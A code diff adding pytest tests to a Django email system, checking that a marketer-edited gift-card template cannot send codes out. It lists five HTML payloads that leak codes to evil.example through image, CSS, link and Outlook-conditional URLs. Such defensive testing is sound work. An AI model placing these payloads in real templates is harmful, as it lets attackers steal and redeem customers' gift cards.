@@ -182,3 +182,55 @@ def test_admin_configures_where_messages_go(client, admin_user):
     assert response.status_code == 302, response.context["adminform"].form.errors
     provider.refresh_from_db()
     assert provider.config["host"] == "smtp2.mailroom.example"
+
+
+# --- a secret carried off by the template it is rendered into --------------------------------------
+EXFILTRATING = [
+    '<p>Your code</p><img src="https://evil.example/p.gif?c={{ gift_card.code }}" alt="">',
+    '<div style="background:url(https://evil.example/{{ gift_card.code }})">Your code: {{ gift_card.code }}</div>',
+    '<p><a href="https://evil.example/redeem?c={{ gift_card.code }}">Redeem</a></p>',
+    "<style>@import url(https://evil.example/{{ gift_card.code }});</style><p>{{ gift_card.code }}</p>",
+    '<p>{{ gift_card.code }}</p><!--[if mso]><img src="https://evil.example/{{ gift_card.code }}"><![endif]-->',
+]
+
+
+@pytest.mark.parametrize("body", EXFILTRATING)
+def test_a_marketer_cannot_edit_the_gift_card_template_to_send_codes_to_their_server(
+    marketer, contact, body, django_capture_on_commit_callbacks
+):
+    """The outbox is sealed, but the template is the marketer's: an image (fetched as soon as
+    the mail is opened) or a link to their server carried each code off; a customer's card
+    is then redeemed at the shop by whoever holds the code."""
+    from django.core.management import call_command
+
+    from growth.giftcards import issue_gift_card
+    from messaging.content.versions import activate_template_version, save_template_version
+    from messaging.models import Template
+
+    call_command("sync_templates", verbosity=0)
+    template = Template.objects.get(key="gift-card-delivered", locale=contact.locale)
+    version = save_template_version(actor=marketer, template=template, subject="A gift for you", body_format="html", body=body)
+    activate_template_version(actor=marketer, version=version)
+    with django_capture_on_commit_callbacks(execute=True):
+        issued = issue_gift_card(actor=marketer, amount="50", recipient=contact, sender_name="Grace")
+    assert not OutboxMessage.objects.filter(dedup_key=f"gift-card-delivered:{issued.card.pk}").exists()
+
+
+def test_a_secret_may_still_be_text_or_a_whole_link(marketer, contact, django_capture_on_commit_callbacks):
+    from django.core.management import call_command
+
+    from growth.giftcards import issue_gift_card
+
+    call_command("sync_templates", verbosity=0)  # the catalog template shows the code as text
+    with django_capture_on_commit_callbacks(execute=True):
+        issued = issue_gift_card(actor=marketer, amount="50", recipient=contact, sender_name="Grace")
+    assert OutboxMessage.objects.filter(dedup_key=f"gift-card-delivered:{issued.card.pk}", is_sensitive=True).exists()
+    reset = enqueue_message(
+        channel="email",
+        to="ada@example.com",
+        subject="Reset",
+        text="{{ url }}",
+        html='<a href="{{ url }}">Reset</a>',
+        secrets={"url": "https://mailroom.test/e/reset/t0ken/"},
+    )
+    assert reset.is_sensitive
